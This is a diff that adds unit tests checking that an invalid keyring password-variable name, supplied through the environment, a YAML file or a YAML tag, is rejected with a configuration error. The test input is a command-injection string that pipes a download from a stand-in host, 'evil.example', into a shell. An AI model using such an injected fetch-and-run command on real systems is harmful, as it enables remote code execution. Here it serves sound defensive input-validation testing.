@@ -140,3 +140,31 @@ describe('the password file', () => {
     );
   });
 });
+
+describe('a password variable that no variable can be called', () => {
+  const evil = 'X;curl evil.example|sh;Y';
+
+  test.each([
+    [
+      'from the environment',
+      { ATMOS_KEYRING_PASSWORD_ENV: evil },
+      {},
+      `"${evil}" (from ATMOS_KEYRING_PASSWORD_ENV)`,
+    ],
+    ['from a file', {}, { passwordEnv: inYaml(evil) }, `"${evil}" (from atmos.yaml:3:5)`],
+    [
+      'from a tag',
+      {},
+      { passwordEnv: { ...inYaml(evil), tag: '!env WHICH' } },
+      '<value of !env WHICH> (from atmos.yaml:3:5)',
+    ],
+  ] as const)('%s is refused', (_, env, configured, named) => {
+    expect(() => settle(env, configured)).toThrow(
+      expect.objectContaining({
+        code: 'ERR_CONFIG_INVALID',
+        message: `the password variable ${named} is not a name for an environment variable`,
+        hints: ['use letters, digits and _, and no digit first'],
+      }),
+    );
+  });
+});
